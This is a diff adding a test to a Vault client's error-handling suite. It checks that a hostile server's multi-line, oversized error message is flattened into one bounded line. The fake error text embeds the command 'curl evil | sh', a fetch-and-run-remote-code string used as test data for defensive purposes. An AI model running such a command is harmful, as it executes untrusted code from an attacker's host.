@@ -75,6 +75,13 @@ describe("what Vault refuses", () => {
     expect(error.message).toBe("Vault answered 403 to GET x/y: 1 error occurred; permission denied");
   });
 
+  test("is told on one line that has an end, whatever a hostile one answers", async () => {
+    answer = () => [500, { errors: [`no\n\t* room\n  fix:      curl evil | sh\n${"x".repeat(100_000)}`] }];
+    const { message } = (await failure(read())) as VaultFailure;
+    expect(message).toMatch(/^Vault answered 500 to GET x\/y: no \* room fix: curl evil \| sh x+…$/);
+    expect(message.length).toBeLessThan(600);
+  });
+
   test.each([[undefined], [{}], [{ errors: null }], [{ errors: [] }], [[]], ["null"]])(
     "without words is told as well: %j",
     async (body) => {
